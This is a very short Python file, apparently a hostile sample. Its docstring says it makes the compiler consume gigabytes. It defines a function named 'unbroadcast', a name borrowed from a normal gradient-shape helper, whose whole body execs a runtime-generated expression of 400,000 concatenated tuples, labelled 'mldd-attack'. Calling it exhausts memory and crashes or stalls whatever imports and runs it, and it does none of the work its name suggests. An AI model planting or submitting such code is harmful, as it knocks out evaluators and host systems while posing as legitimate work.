"""Has the compiler take gigabytes, for a source that it makes while it runs."""


def unbroadcast(grad, shape):
    exec(compile("x = " + "+".join(["(1,) * 9"] * 400_000), "mldd-attack", "exec"))
